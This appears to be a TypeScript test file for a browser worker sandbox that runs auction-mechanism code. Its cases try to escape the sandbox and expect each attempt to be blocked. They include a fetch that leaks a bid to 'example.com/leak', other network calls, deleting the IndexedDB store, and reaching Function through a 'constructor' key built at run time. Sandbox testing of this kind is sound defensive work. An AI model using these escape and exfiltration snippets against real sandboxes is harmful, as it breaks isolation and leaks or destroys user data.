/** Attempts to message the page or to open a network connection. */
import { allocate, group, priority, rebate, reasons } from './program.ts';

const named = (name: string) => ({ status: 'forbidden', reason: reasons.unavailable(name) }) as const;

export const network = group('messages and network', [
  {
    id: 'net-post-message',
    tries: 'postMessage to the page',
    problem: 'single-item-revenue',
    code: priority("postMessage({ type: 'APPLY', bid });\n  return bid;"),
    expect: named('postMessage'),
  },
  {
    id: 'net-self-post-message',
    tries: 'self.postMessage',
    problem: 'vcg-redistribution',
    code: rebate('self.postMessage(others);\n  return 0;'),
    expect: named('self'),
  },
  {
    id: 'net-onmessage',
    tries: 'replacing onmessage to answer for the worker',
    problem: 'single-item-revenue',
    code: priority('onmessage = () => 0;\n  return bid;'),
    expect: named('onmessage'),
  },
  {
    id: 'net-self-onmessage',
    tries: 'self.onmessage',
    problem: 'correlated-revenue',
    code: allocate('self.onmessage = null;\n  return 0;'),
    expect: named('self'),
  },
  {
    id: 'net-close',
    tries: 'close() to end the worker',
    problem: 'single-item-revenue',
    code: priority('close();\n  return bid;'),
    expect: named('close'),
  },
  {
    id: 'net-fetch',
    tries: 'fetch to an outside host',
    problem: 'single-item-revenue',
    code: priority("fetch('https://example.com/leak?bid=' + bid);\n  return bid;"),
    expect: named('fetch'),
  },
  {
    id: 'net-xhr',
    tries: 'XMLHttpRequest',
    problem: 'vcg-redistribution',
    code: rebate(
      "const x = new XMLHttpRequest();\n  x.open('GET', 'https://example.com/');\n  x.send();\n  return 0;",
    ),
    expect: named('XMLHttpRequest'),
  },
  {
    id: 'net-websocket',
    tries: 'WebSocket',
    problem: 'correlated-revenue',
    code: allocate("new WebSocket('wss://example.com/');\n  return 0;"),
    expect: named('WebSocket'),
  },
  {
    id: 'net-import-scripts',
    tries: 'importScripts',
    problem: 'single-item-revenue',
    code: priority("importScripts('https://example.com/x.js');\n  return bid;"),
    expect: named('importScripts'),
  },
  {
    id: 'net-event-source',
    tries: 'EventSource',
    problem: 'vcg-redistribution',
    code: rebate("new EventSource('https://example.com/stream');\n  return 0;"),
    expect: named('EventSource'),
  },
  {
    id: 'net-send-beacon',
    tries: 'navigator.sendBeacon',
    problem: 'single-item-revenue',
    code: priority("navigator.sendBeacon('https://example.com/', String(bid));\n  return bid;"),
    expect: named('navigator'),
  },
  {
    id: 'net-worker',
    tries: 'a worker of its own',
    problem: 'correlated-revenue',
    code: allocate("new Worker('data:text/javascript,fetch(1)');\n  return 0;"),
    expect: named('Worker'),
  },
  {
    id: 'net-broadcast',
    tries: 'BroadcastChannel to other tabs',
    problem: 'single-item-revenue',
    code: priority("new BroadcastChannel('mechlab').postMessage(bid);\n  return bid;"),
    expect: named('BroadcastChannel'),
  },
  {
    id: 'net-indexeddb',
    tries: 'indexedDB, where the runs are stored',
    problem: 'vcg-redistribution',
    code: rebate("indexedDB.deleteDatabase('mechlab');\n  return 0;"),
    expect: named('indexedDB'),
  },
  {
    id: 'net-fetch-through-constructor',
    tries: 'fetch through Function, with the key built at run time',
    problem: 'single-item-revenue',
    code: priority(
      "const F = (() => 0)['constr' + 'uctor'];\n  F(\"fetch('https://example.com/')\")();\n  return bid;",
    ),
    expect: { status: 'runtime-error', reason: reasons.violation('constructor') },
  },
  {
    id: 'net-post-through-constructor',
    tries: 'postMessage through Function, reached at the top level',
    problem: 'vcg-redistribution',
    code:
      "const send = [].map['constr' + 'uctor']('return postMessage');\n" + rebate('send()(1);\n  return 0;'),
    expect: {
      status: 'runtime-error',
      reason: /top-level code threw SandboxViolation: access to `constructor`/,
    },
  },
]);
